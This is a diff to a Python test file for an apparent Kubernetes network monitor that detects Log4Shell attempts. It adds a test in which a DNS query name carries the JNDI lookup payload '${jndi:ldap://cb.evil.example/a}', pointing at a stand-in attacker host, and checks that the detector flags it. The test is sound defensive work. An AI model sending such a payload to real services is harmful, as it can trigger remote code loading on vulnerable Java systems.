@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import base64
 
-from kubectl_netmon.capture.l7.events import HttpRequest, HttpResponse
+from kubectl_netmon.capture.l7.events import DnsMessage, HttpRequest, HttpResponse
+from tests.detect import wire
 from tests.detect.harness import Hooks
 
 ATTACKER, VICTIM = "203.0.113.7", "10.0.0.5"
@@ -142,3 +143,15 @@ def test_same_attempt_repeated_is_suppressed_and_counted():
 def test_benign_template_in_a_header_is_not_an_attempt():
     hooks = request(Hooks(), headers=[("x-template", "Hello ${user.name}")], body=b"${HOME}")
     assert hooks.notices == []
+
+
+def test_lookup_in_a_dns_query_name_is_attempt_other_with_the_dotted_host():
+    hooks = Hooks()
+    conn = hooks.conn(ATTACKER, 5353, VICTIM, 53, proto="udp")
+    name = "${jndi:ldap://cb.evil.example/a}"
+    hooks.data(conn, True, wire.dns_query(name))
+    hooks.event(conn, DnsMessage(ts_ns=hooks.tick(), trans_id=0x1234, is_response=False,
+                                 query=name))
+    hooks.end(conn)
+    assert hooks.notes() == ["LOG4J_ATTEMPT_OTHER"]
+    assert hooks.notices[0].extra["lookup.host"] == "cb.evil.example"
